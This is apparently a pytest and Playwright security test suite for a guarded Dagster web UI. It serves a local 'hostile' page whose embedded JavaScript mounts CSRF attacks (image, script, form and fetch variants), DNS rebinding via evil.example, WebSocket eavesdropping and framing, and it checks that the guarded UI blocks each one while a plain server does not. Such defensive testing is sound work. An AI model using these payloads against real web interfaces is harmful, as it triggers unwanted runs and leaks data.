"""A real Chromium on a hostile page, while the web UI runs on the same machine: it starts nothing and reads nothing.

Each attack is made on the guarded UI and on Dagster's plain web server: on the plain one most of them start a run, which
shows that this test can fail. A launch is counted by the tag that it carries.
"""

import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
from playwright.sync_api import Page, expect

from hf_pipelines_tests.browser import CHROMIUM, WebServer, browser_page, materialize
from hf_pipelines_tests.running import LAUNCH
from hf_pipelines_tests.web_uis import WEEK, WebUI, WebUIs, launch_body, launch_document, launch_params

pytestmark = [
    pytest.mark.browser,
    pytest.mark.servers,
    pytest.mark.xdist_group("web_uis"),
    pytest.mark.skipif(CHROMIUM is None, reason="no chromium, chromium-browser or google-chrome on the PATH"),
]

REBOUND = "evil.example"
CHROMIUM_OPTIONS = [
    f"--host-resolver-rules=MAP {REBOUND} 127.0.0.1",
    # What this browser does against rebound names by itself, and others do not.
    "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests",
]

# Each attack takes (target, launch document, launch body), and returns what the page could read, "" for nothing.
ATTACKS = """
const address = (target, document) => `${target}/graphql?query=${encodeURIComponent(document)}`;
const loaded = element => new Promise(done => {
  element.onload = element.onerror = () => done(element);
  document.body.append(element);
});
const make = (name, attributes) => Object.assign(document.createElement(name), attributes);
const sent = (url, options) => fetch(url, options).then(answer => answer.text(), () => "");
const form = enctype => async (target, query) => {
  const frame = make("iframe", {name: `frame${Math.random()}`});
  const sender = make("form", {method: "POST", enctype, action: address(target, query), target: frame.name});
  document.body.append(sender);
  // The empty page that a new frame begins with is not the answer.
  await loaded(frame);
  const next = new Promise(done => frame.onload = done);
  sender.submit();
  await next;
  try { return frame.contentDocument.body.innerText; } catch { return ""; }
};
const socket = (target, message) => new Promise(done => {
  const opened = new WebSocket(`${target.replace("http", "ws")}/graphql`, "graphql-ws");
  opened.onopen = () => {
    opened.send(JSON.stringify({type: "connection_init"}));
    opened.send(JSON.stringify({type: "start", id: "1", payload: message}));
  };
  opened.onmessage = event => JSON.parse(event.data).type != "connection_ack" && done(event.data);
  opened.onclose = () => done("");
});
window.attacks = {
  image: async (target, query) => { await loaded(make("img", {src: address(target, query)})); return ""; },
  script: async (target, query) => { await loaded(make("script", {src: address(target, query)})); return ""; },
  form_text: form("text/plain"),
  form_urlencoded: form("application/x-www-form-urlencoded"),
  form_multipart: form("multipart/form-data"),
  fetch_text: (target, query, body) => sent(`${target}/graphql`,
    {method: "POST", mode: "no-cors", headers: {"Content-Type": "text/plain; application/json"}, body}),
  fetch_get: (target, query) => sent(address(target, query)),
  fetch_json: (target, query, body) => sent(`${target}/graphql`,
    {method: "POST", headers: {"Content-Type": "application/json"}, body}),
};
window.eavesdrop = (target, message) => socket(target, message);
"""

# What starts a run where nothing guards; a preflight stops JSON there too.
STARTS = {
    "image": 1,
    "script": 1,
    "form_text": 1,
    "form_urlencoded": 1,
    "form_multipart": 1,
    "fetch_text": 1,
    "fetch_get": 1,
    "fetch_json": 0,
}
EVENTS = """
subscription Events($id: ID!) {
  pipelineRunLogs(runId: $id) { ... on PipelineRunLogsSubscriptionSuccess { run { runId } } }
}
"""


@pytest.fixture(scope="module")
def page() -> Iterator[Page]:
    with browser_page(arguments=CHROMIUM_OPTIONS) as page:
        yield page


@pytest.fixture(scope="module")
def hostile_port() -> Iterator[int]:
    with _hostile_server() as port:
        yield port


@contextmanager
def _hostile_server() -> Iterator[int]:
    """The attacker's own web server, under every name that leads to this machine."""

    class Trap(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(f"<body><script>{ATTACKS}</script></body>".encode())

        def log_message(self, format: str, *arguments: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Trap)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    try:
        yield server.server_port
    finally:
        server.shutdown()
        thread.join()
        server.server_close()


def attack(
    page: Page, ui: WebUI, names: list[str], tag: str, *, target: str | None = None
) -> tuple[dict[str, int], dict[str, str]]:
    """Make the attacks from the page that is open: runs started, and what the page could read, by attack."""
    read = {
        name: page.evaluate(
            "([name, target, query, body]) => window.attacks[name](target, query, body)",
            [name, target or ui.url, launch_document(f"{tag}_{name}"), launch_body(f"{tag}_{name}")],
        )
        for name in names
    }
    return {name: ui.n_runs(f"{tag}_{name}") for name in names}, read


@pytest.mark.parametrize("site", ["localhost", "127.0.0.1", REBOUND])
def test_hostile_page_starts_and_reads_nothing_where_the_plain_webserver_starts_runs(
    uis: WebUIs, page: Page, hostile_port: int, site: str
) -> None:
    # Another site, another port of the same host, another name that leads here.
    page.goto(f"http://{site}:{hostile_port}/")
    nothing_read = dict.fromkeys(STARTS, "")
    assert attack(page, uis.guarded, list(STARTS), f"guarded_{site}") == (dict.fromkeys(STARTS, 0), nothing_read)
    assert attack(page, uis.plain, list(STARTS), f"plain_{site}") == (STARTS, nothing_read)


def test_rebound_page_starts_and_reads_nothing_where_the_plain_webserver_obeys(uis: WebUIs, page: Page) -> None:
    """DNS rebinding: the page came from the attacker's address, its name and port lead to the UI now."""
    names = ["fetch_get", "fetch_json", "image"]
    for ui, tag, n_started in ((uis.guarded, "rebound_guarded", 0), (uis.plain, "rebound_plain", 1)):
        target = f"http://{REBOUND}:{ui.port}"
        page.route(
            f"{target}/trap",
            lambda route: route.fulfill(content_type="text/html", body=f"<body><script>{ATTACKS}</script>"),
        )
        page.goto(f"{target}/trap")
        started, read = attack(page, ui, names, tag, target=target)
        assert started == dict.fromkeys(names, n_started)
        # The browser lets this page read: it is of one origin with what it asks. There must be nothing in it.
        answers = [json.loads(read[name]) for name in ("fetch_get", "fetch_json")]
        assert ["data" in answer for answer in answers] == [n_started == 1] * 2
        assert ["`Host` must be one of" in str(answer) for answer in answers] == [n_started == 0] * 2
        # While a route is set Playwright answers preflights itself.
        page.unroute_all()


@pytest.mark.parametrize("site", ["localhost", "127.0.0.1"])
def test_hostile_page_by_websocket_reads_nothing_where_the_plain_webserver_tells_of_a_run(
    uis: WebUIs, page: Page, hostile_port: int, site: str
) -> None:
    launched = uis.guarded.graphql(LAUNCH, **launch_params(f"overheard_{site}"))["launchPipelineExecution"]
    run_id = launched["run"]["runId"]
    page.goto(f"http://{site}:{hostile_port}/")

    def overheard(ui: WebUI) -> str:
        message = {"query": EVENTS, "variables": {"id": run_id}}
        return str(page.evaluate("([target, message]) => window.eavesdrop(target, message)", [ui.url, message]))

    assert overheard(uis.guarded) == ""
    assert run_id in overheard(uis.plain)


def test_hostile_page_cannot_frame_the_ui(uis: WebUIs, page: Page, hostile_port: int) -> None:
    """A UI in a frame would take clicks that the visitor means for the page above it."""

    def fetched_in_a_frame(ui: WebUI) -> list[str]:
        """Kinds of what the browser fetches for a frame of the UI: a page that is refused fetches nothing more."""
        fetched: list[str] = []
        page.goto(f"http://localhost:{hostile_port}/")
        page.on(
            "request", lambda request: fetched.append(request.resource_type) if request.url.startswith(ui.url) else None
        )
        # A frame is loaded when its scripts are, and also when it shows why there is no page.
        page.evaluate("url => loaded(make('iframe', {src: url}))", ui.url)
        return fetched

    assert fetched_in_a_frame(uis.guarded) == ["document"]
    shown = fetched_in_a_frame(uis.plain)
    assert shown[0] == "document" and "script" in shown


def test_guarded_ui_with_a_click_of_the_operator_launches_a_run(uis: WebUIs, page: Page) -> None:
    before = _runs_of_week(uis.guarded)
    materialize(page, WebServer(uis.guarded.url, uis.guarded.log.parent), "us_tech/bars", WEEK)
    assert _runs_of_week(uis.guarded) == before + 1


def test_viewer_in_the_browser_shows_runs_and_launches_nothing(uis: WebUIs, page: Page) -> None:
    page.goto(f"{uis.viewer.url}/assets/us_tech/bars")
    expect(page.get_by_role("button", name="Materialize").first).to_be_disabled(timeout=60_000)
    said = page.evaluate(
        """body => fetch("/graphql", {method: "POST", headers: {"Content-Type": "application/json"}, body})
           .then(answer => answer.json())""",
        launch_body("viewer"),
    )
    assert "read-only" in said["errors"][0]["message"]
    assert uis.viewer.n_runs("viewer") == 0


def _runs_of_week(ui: WebUI) -> int:
    wanted: dict[str, Any] = {"tags": [{"key": "dagster/partition", "value": WEEK}]}
    question = "query Runs($filter: RunsFilter) { runsOrError(filter: $filter) { ... on Runs { count } } }"
    return int(ui.graphql(question, filter=wanted)["runsOrError"]["count"])
